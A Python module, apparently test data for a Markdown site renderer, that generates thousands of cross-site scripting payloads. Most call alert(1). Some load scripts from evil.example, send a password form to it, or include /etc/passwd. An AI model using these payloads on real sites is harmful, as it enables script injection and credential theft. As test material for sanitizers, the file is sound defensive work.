"""What attackers write into a text that becomes a page: each line would call `alert` where it gets through.

Written for this project after the classes that the well-known cheat sheets describe: handlers, schemes,
broken syntax, mutation, clobbering, and the syntax of the engines behind us.
"""

# ruff: noqa: E501  what an attacker writes is long

from __future__ import annotations

import html
from collections.abc import Iterable, Iterator
from itertools import cycle, product

RUN = "alert(1)"
REMOTE = "https://evil.example"

_SELF_RUNNING = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=x autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("iframe src=x", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("image src=x", "onerror"),
    ("body style=overflow:auto", "onscroll"),
    ("div style=animation-name:md-rotate", "onanimationstart"),
    ("p tabindex=1 autofocus", "onfocusin"),
    ("video autoplay", "onloadstart"),
    ("dialog open", "onbeforetoggle"),
    ("track src=x default", "onerror"),
    ("source src=x", "onerror"),
    ("frameset", "onload"),
    ("keygen autofocus", "onfocus"),
    ("xss tabindex=1 autofocus", "onfocus"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onend"),
    ("svg><image href=x", "onerror"),
    ("math><mi tabindex=1 autofocus", "onfocus"),
)
_BY_A_READER = [
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onmousemove",
    "onmousedown",
    "onpointerdown",
    "onpointerover",
    "onpointerrawupdate",
    "onkeydown",
    "onkeyup",
    "oncopy",
    "onpaste",
    "ondrag",
    "onwheel",
    "oncontextmenu",
    "onbeforeinput",
    "oninput",
    "onchange",
    "onsubmit",
    "onblur",
    "ontouchstart",
    "ontransitionend",
    "onauxclick",
    "onsearch",
    "oncuechange",
    "onhashchange",
    "onpageshow",
    "onresize",
]
_CARRIERS = ("b", "a href=#", "div", "td", "li", "h1", "details", "label", "span", "custom-tag", "form")
# Separators between a tag's name and its attribute, and ways to write the value.
_GAPS = (" ", "/", "\t", "\n", "\f", " / ", '"', "'x'", " x ", "\x0b")
_VALUES = ("{}", '"{}"', "'{}'", "`{}`", " {} ", "&#97;lert(1)", "al\\u0065rt(1)", "{}//", "javascript:{}")

_SCHEMES = (
    *(
        "javascript:{}",
        "JaVaScRiPt:{}",
        "  javascript:{}",
        "java\tscript:{}",
        "java\nscript:{}",
        "\x01javascript:{}",
    ),
    *(
        "javascript&colon;{}",
        "&#106;avascript:{}",
        "&#x6A;avascript:{}",
        "&#0000106avascript:{}",
        "%6aavascript:{}",
    ),
    *(
        "javascript://%0a{}",
        "javascript:/*--></title></style>*/{}",
        "javascript&#58;{}",
        "java&Tab;script:{}",
    ),
    *(
        "java&NewLine;script:{}",
        "&#1;javascript:{}",
        "javascript :{}",
        "\u00a0javascript:{}",
        "\u2028javascript:{}",
    ),
    *(
        "vbscript:{}",
        "livescript:{}",
        "feed:javascript:{}",
        "view-source:javascript:{}",
        "jar:javascript:{}!/",
    ),
    *("data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    *(
        "data:image/svg+xml,<svg onload={} xmlns='http://www.w3.org/2000/svg'/>",
        "DATA:text/html,<b onclick={}>x",
    ),
    *("blob:https://evil.example/1", "file:///etc/passwd", "filesystem:https://evil.example/x", "x:{}"),
    *(
        "//evil.example/{}",
        "\\\\evil.example\\{}",
        "/\\evil.example/{}",
        "https:javascript:{}",
        "\ufeffjavascript:{}",
    ),
)
_LINKS = (
    *("[a]({})", "[a](<{}>)", '[a]({} "t")', "![a]({})", "![a](<{}>)", "<{}>", "[a][r{n}]\n\n[r{n}]: {}"),
    *("[r{n}]\n\n[r{n}]: <{}>", "[[{}]]", "[[{}|a]]", "![[{}]]", "[a]({}){{ target=x }}", "[![b]({})](x)"),
    *('<a href="{}">a</a>', '<iframe src="{}"></iframe>', '<form action="{}"><input type=submit></form>'),
    *('<button form=x formaction="{}">a</button>', '<object data="{}"></object>', '<embed src="{}">'),
    *(
        '<svg><a xlink:href="{}"><text y=9>a</text></a></svg>',
        '<svg><use href="{}"/></svg>',
        '<base href="{}">',
    ),
    *(
        '<math href="{}"><mi>a</mi></math>',
        '<meta http-equiv=refresh content="0;url={}">',
        '<area href="{}">',
    ),
    *(
        '<img src="{}">',
        '<video poster="{}"></video>',
        '<video><source src="{}"></video>',
        '<link href="{}">',
    ),
    *('<input type=image src="{}">', '<img srcset="{} 2x">', '<body background="{}">', '<q cite="{}">a</q>'),
    *(
        '<svg><animate xlink:href=#x attributeName=href values="{}"/></svg>',
        '<table background="{}"><tr><td>',
    ),
    *('<div style="background:url({})">a</div>', '<p style="x:expression({})">a</p>', '<img lowsrc="{}">'),
)

BROKEN = (
    "<script>{}</script>",
    "<script >{}</script >",
    "<ScRiPt>{}</sCrIpT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\n>{}</script>",
    "<script/x>{}</script>",
    "<script>{}",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    "<script type=module>{}</script>",
    "<<script>{}//<</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" onmouseover={} x="',
    "' onfocus={} autofocus='",
    "x onerror={} y",
    "`><img src=x onerror={}>`",
    "</title><script>{}</script>",
    "</textarea><img src=x onerror={}>",
    "</style><img src=x onerror={}>",
    "</script><script>{}</script>",
    "</article></div><script>{}</script>",
    "--><img src=x onerror={}><!--",
    "<!--><img src=x onerror={}>-->",
    "<!--><svg onload={}>",
    "<!-- --!><img src=x onerror={}> -->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "]]><img src=x onerror={}>",
    "<?xml ?><img src=x onerror={}>",
    "<?php ?><svg onload={}>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={}>'>]>&y;",
    "<img src='x\nonerror={}",
    "<img src=x onerror={}",
    "<img src=x onerror={} <b>",
    "<img/src=x/onerror={}>",
    "<img src=x:x onerror={}>",
    '<img """><script>{}</script>">',
    "<img src=`x` onerror={}>",
    "<a title='>' onclick={} href=x>a</a>",
    '<b title="<img src=x onerror={}>">a</b>',
    "<b title='</b><img src=x onerror={}>'>a",
    "&lt;img src=x onerror={}&gt;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror={}&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\<img src=x onerror={}\\>",
    "\\x3cscript\\x3e{}",
    "\u003cimg src=x onerror={}\u003e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\x02\x03<img src=x onerror={}>",
    "<\x00script>{}</script>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.{}&lt;/script&gt;></iframe>",
    "<iframe><img src=x onerror={}></iframe>",
    "<iframe name=x src=//evil.example></iframe>",
    "<form><button formaction=javascript:{}>a</button></form>",
    "<form action=https://evil.example><input name=q type=password></form>",
    "<isindex type=image src=x onerror={}>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{{background:url(https://evil.example)}}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<base href=https://evil.example/>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>a</div>",
    "<div class='md-overlay md-dialog md-search__overlay' style='width:9999px;height:9999px'>a</div>",
    "<label for=__drawer class=md-overlay>a</label>",
    "<div data-md-component=search data-md-toggle=search>a</div>",
    "<div markdown onclick={}>*a*</div>",
    "<div markdown=1 onclick={}>\n\n*a*{{ onclick={} }}\n\n</div>",
    "<span class=nb-external><iframe data-src=javascript:{}></iframe></span>",
    "<a class=nb-zoom href=javascript:{}>a</a>",
    '<pre class=mermaid><code>graph TD\nA-->B\nclick A href "javascript:{}"</code></pre>',
    "<span class=arithmatex>\\(\\href{{javascript:{}}}{{a}}\\)</span>",
)
MUTATING = (
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<svg></p><style><a id="</style><img src=x onerror={}>">',
    "<svg><style><img src=x onerror={}></style>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={}></style></annotation-xml>",
    "<svg><desc><style><img src=x onerror={}></style></desc></svg>",
    "<svg><foreignObject><style></style><img src=x onerror={}></foreignObject></svg>",
    "<svg><title><img src=x onerror={}></title></svg>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<noembed><p title='</noembed><img src=x onerror={}>'>",
    "<noframes><p title='</noframes><img src=x onerror={}>'>",
    "<plaintext><img src=x onerror={}>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<template><img src=x onerror={}></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={}>'>",
    "<table><style><a title='</style><img src=x onerror={}>'></table>",
    "<title><a title='</title><img src=x onerror={}>'>",
    "<textarea><a title='</textarea><img src=x onerror={}>'>",
    "<iframe><a title='</iframe><img src=x onerror={}>'>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<svg><a><animate attributeName=href values=javascript:{} /><text y=9>a</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload={}>#x /></svg>",
    "<svg><handler type=text/javascript>{}</handler></svg>",
    "<p><svg><p title='</svg><img src=x onerror={}>'>",
    "<b><svg><![CDATA[</svg><img src=x onerror={}>]]></svg>",
    "<a><svg><style><a title='</style><img src=x onerror={}>'></a>",
)
CLOBBERING = (
    *(
        "<a id=__config href='javascript:{}'>{{}}</a>",
        "<form id=__config><input name=textContent value=x></form>",
    ),
    *("<img name=getElementById>", "<img name=querySelector>", "<form name=body><img name=children></form>"),
    *("<a id=__md_scope><a id=__md_scope name=href href=javascript:{}>", "<a id=document$ href=x>a</a>"),
    *("<iframe name=__search srcdoc=x></iframe>", "<input id=__search type=checkbox><input id=__drawer>"),
    *(
        "<img id=katex name=render>",
        "<form id=mermaid><input name=render></form>",
        "<object name=currentScript>",
    ),
)
MARKDOWN = (
    "a {{ onclick={} }}",
    '# a {{ onclick="{}" }}',
    "# a {{: #__config onmouseover={} }}",
    "*a*{{ onmouseover={} }}",
    "*a*{{: onmouseover='{}' }}",
    "`a`{{ onclick={} }}",
    "[a](b){{ onmouseover={} }}",
    "![a](b){{ onerror={} }}",
    "- a {{ onclick={} }}",
    "{{: onclick={} }}",
    "a\n{{: onmouseover={} style='position:fixed' }}",
    "| a {{ onclick={} }} |\n|---|\n| b {{: onclick={} }} |",
    "/// html | img[src=x onerror={}]\n///",
    "/// html | div.x[onclick={}]\n    markdown: html\n\na\n\n///",
    "/// html | script\n\n{}\n\n///",
    "/// note | a\n    attrs: {{onclick: {}}}\n\nb\n///",
    '!!! note "<img src=x onerror={}>"\n    a',
    '!!! "onclick={}" x\n    a',
    '??? note "<img src=x onerror={}>"\n    a',
    '=== "<img src=x onerror={}>"\n    a',
    "*[a]: <img src=x onerror={}>\n\na",
    '*[a]: " onmouseover={} "\n\na',
    '--8<-- "/etc/passwd"',
    ';--8<-- "https://evil.example/x"',
    "[TOC]{{ onclick={} }}",
    ":smile:{{ onclick={} }}",
    ":material-alert:{{ onclick={} }}",
    "++ctrl+alt+<img src=x onerror={}>++",
    "{{~~<img src=x onerror={}>~~}}",
    "{{>> <img src=x onerror={}> <<}}",
    "{{%raw%}}<img src=x onerror={}>{{%endraw%}}",
    "{{{{ config.__class__ }}}}<img src=x onerror={}>",
    "[^<img src=x onerror={}>]: a\n\nb[^<img src=x onerror={}>]",
    "[^{n}]: <img src=x onerror={}>\n\nb[^{n}]",
    "^[<img src=x onerror={}>]",
    "```html {{ onclick={} }}\na\n```",
    "```{{.x onclick={} }}\na\n```",
    "``` <img src=x onerror={}>\na\n```",
    '```js" onclick="{}\na\n```',
    "~~~x' onclick={} '\n</code></pre><img src=x onerror={}>\n~~~",
    "```query\n</pre><img src=x onerror={}>\n```",
    '```base\nviews:\n  - type: table\n    order: ["<img src=x onerror={}>"]\n```',
    "    </code></pre><img src=x onerror={}>",
    "`</code><img src=x onerror={}>`",
    "``<img src=x onerror={}>``",
    "> [!<img src=x onerror={}>] a",
    "> [!note|onclick={}]+ <img src=x onerror={}>\n> b",
    '> [!x" onclick={} "]- a\n> b',
    "> [!note] a {{ onclick={} }}\n> b {{ onclick={} }}",
    "- [<img src=x onerror={}>] a",
    '- ["] a {{: onclick={} }}',
    '#tag"onclick={}',
    "#tag<img/src=x/onerror={}>",
    'a ^x"onclick={}',
    "a ^<img src=x onerror={}>",
    "[a](b 'x\" onmouseover=\"{}')",
    "[a](b \"x' onmouseover='{}\")",
    '[a](b "\\" onmouseover={} \\"")',
    '[a](x"onmouseover="{})',
    '![x" onerror="{}](y.png)',
    '![x](y.png"onerror="{})',
    '![x" onerror="{}|100](https://evil.example/a.png)',
    '![a|1"onerror="{}](missing.png)',
    '![[missing.png|x" onerror="{}]]',
    '![[missing.png#x" onerror="{}|300]]',
    '![[" onerror={} ".png]]',
    '[[x" onmouseover="{}]]',
    "[[x|<img src=x onerror={}>]]",
    "[[<img src=x onerror={}>#<img src=x onerror={}>]]",
    "[a<img src=x onerror={}>b](c)",
    "[a][{n}]\n\n[{n}]: b \"x' onmouseover={} y='\"",
    "[a]: b 'x\"><img src=x onerror={}>'\n\n[a]",
    '<https://x.y/"onmouseover="{}>',
    'https://x.y/"onmouseover="{}',
    "https://x.y/<img src=x onerror={}>",
    '<a@b.c"onmouseover={}>',
    "==<img src=x onerror={}>==",
    "~~<svg onload={}>~~",
    "**<img src=x onerror={}>**",
    "%%<img src=x onerror={}>",
    "%%\n<img src=x onerror={}>\n\n%% <img src=x onerror={}>",
    "$<img src=x onerror={}>$",
    "$\\href{{javascript:{}}}{{a}}$",
    "$\\htmlData{{x=y}}{{a}} \\htmlId{{__config}}{{a}} \\htmlStyle{{position:fixed}}{{a}} \\htmlClass{{md-overlay}}{{a}}$",
    "$\\url{{javascript:{}}}$ $\\includegraphics{{https://evil.example/x.png}}$",
    "$$\\text{{</span><img src=x onerror={}>}}$$",
    "$\\unicode{{<img src=x onerror={}>}}$",
    "$\\rule{{9999em}}{{9999em}}$ $\\kern-9999em a$",
    "$\\def\\x{{\\x\\x}}\\x$ \\(<img src=x onerror={}>\\) \\[<svg onload={}>\\]",
    '```mermaid\ngraph TD\nA["<img src=x onerror={}>"] --> B\nclick A href "javascript:{}"\n```',
    '```mermaid\n%%{{init: {{"securityLevel": "loose", "htmlLabels": true}}}}%%\ngraph TD\nA["<img src=x onerror={}>"]\n```',
    '```mermaid\n%%{{init: {{"themeCSS": "svg {{position: fixed; inset: 0}}"}}}}%%\ngraph TD\nA-->B\n```',
    "```mermaid\n---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA --> B\nclick A call {}\nclick B {}\n```",
    "```mermaid\nsequenceDiagram\nparticipant A\nlink A: x @ javascript:{}\nA->>A: <img src=x onerror={}>\n```",
    "```mermaid\ngraph TD\nA-->B\nclassDef x background:url(https://evil.example/x),position:fixed\nclass A x\n```",
    "```mermaid\n</code></pre><img src=x onerror={}>\n```",
    '```mermaid\nclassDiagram\nclass A\nclick A href "javascript:{}"\nlink A "javascript:{}"\n```',
)


def handlers() -> Iterator[str]:
    """Tags that run by themselves in every way of writing them, and those that wait for a reader."""
    for tag, handler in _SELF_RUNNING:
        yield f"<{tag} {handler}={RUN}>"
    for gap, value in product(_GAPS, _VALUES):
        yield f"<img{gap if gap.strip() != '' or gap.isspace() else ' '}src=x onerror={value.format(RUN)}>"
    for handler, carrier in zip(_BY_A_READER, cycle(_CARRIERS)):
        yield f'<{carrier} {handler}="{RUN}">a'
        yield f"a <{carrier.upper()} {handler.upper()}={RUN}>a</{carrier.split()[0]}>"


def every_handler() -> Iterator[str]:
    """Each tag that runs by itself in each way of writing it."""
    for (tag, handler), gap, value in product(_SELF_RUNNING, _GAPS, _VALUES):
        yield f"<{tag.replace(' ', gap)}{gap}{handler}={value.format(RUN)}>"


def every_link() -> Iterator[str]:
    """Each scheme in each place of a link."""
    for number, (place, scheme) in enumerate(product(_LINKS, _SCHEMES), 300):
        yield _link(place, scheme, number)


def links() -> Iterator[str]:
    """Each scheme in some places of a link, and each place with the plainest scheme."""
    places = cycle(_LINKS)
    for number, scheme in enumerate(_SCHEMES * 3):
        yield _link(next(places), scheme, number)
    for number, place in enumerate(_LINKS, 200):
        yield _link(place, _SCHEMES[0], number)


def _link(place: str, scheme: str, number: int) -> str:
    address = scheme.replace("{}", RUN)
    return place.replace("{n}", str(number)).replace("{}", address).replace("{{", "{").replace("}}", "}")


def written(texts: tuple[str, ...]) -> Iterator[str]:
    for number, text in enumerate(texts):
        yield text.replace("{n}", f"n{number}").replace("{}", RUN).replace("{{", "{").replace("}}", "}")


INLINE = (*handlers(), *written((*BROKEN, *MUTATING, *CLOBBERING)))
"""Payloads that are HTML."""
PAYLOADS = tuple(dict.fromkeys((*INLINE, *links(), *written(MARKDOWN))))
"""All of them, each once."""
EVERY = tuple(dict.fromkeys((*PAYLOADS, *every_handler(), *every_link())))
"""Thousands, for those who have the time."""


def one_line(texts: Iterable[str]) -> tuple[str, ...]:
    """Write payloads for places that take no line end."""
    return tuple(text.replace("\n", " ").replace("\0", "").replace("\x0b", " ") for text in texts)


ONE_LINE = one_line(PAYLOADS)


def encoded(text: str) -> str:
    """Write a payload as an attribute of a raw page."""
    return html.escape(text)
